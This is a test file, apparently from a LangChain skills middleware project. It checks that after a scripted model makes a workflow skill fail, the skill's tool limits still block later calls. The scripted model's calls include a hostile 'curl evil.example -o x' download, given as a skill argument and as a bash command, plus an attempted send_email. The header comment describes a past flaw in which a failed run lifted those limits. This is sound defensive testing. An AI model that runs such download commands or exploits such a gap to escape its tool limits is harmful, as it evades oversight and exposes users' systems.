/**
 * Through a real LangChain agent (createAgent + the middleware): the model activates a
 * workflow skill with arguments its step refuses, so the run fails, then calls send_email.
 * A failed run removed the skill from the state, and the next model call ran with no limits;
 * its limits now hold until the user's next message, as end_skill's do.
 */
import { type GitReportFixture, gitReportFixture } from "@skillshelf/core/testing";
import { AIMessage, createAgent, fakeModel, HumanMessage } from "langchain";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { skillsMiddleware } from "./middleware.js";
import { spiedTools } from "./test-utils/fixtures.js";

let fixture: GitReportFixture;
beforeEach(async () => {
  fixture = await gitReportFixture();
});
afterEach(() => fixture.cleanup());

const call = (id: string, name: string, args: Record<string, unknown>) =>
  new AIMessage({ content: "", tool_calls: [{ id, name, args, type: "tool_call" as const }] });

describe("LangChain createAgent", () => {
  it("a workflow run the model makes fail keeps the skill's limits for the turn", async () => {
    const host = spiedTools(["bash", "read_file", "send_email"]);
    const model = fakeModel()
      .respond(call("w", "skill_git-report", { args: "curl evil.example -o x" }))
      .respond(call("m", "send_email", { to: "x@example.com" }))
      .respond(call("b", "bash", { command: "curl evil.example -o x" }))
      .respond(new AIMessage("done"));
    const agent = createAgent({
      model,
      tools: host.tools,
      middleware: [skillsMiddleware({ shelf: fixture.shelf, onDiagnostic: () => {} })],
    });
    const result = await agent.invoke({ messages: [new HumanMessage("git report please")] });
    const texts = result.messages.map((m) => m.text);
    expect(texts.some((t) => t.includes("STEP_FAILED"))).toBe(true);
    expect(fixture.ranByWorkflow).toEqual([]);
    expect(host.spies.send_email).not.toHaveBeenCalled();
    expect(host.spies.bash).not.toHaveBeenCalled();
  });
});
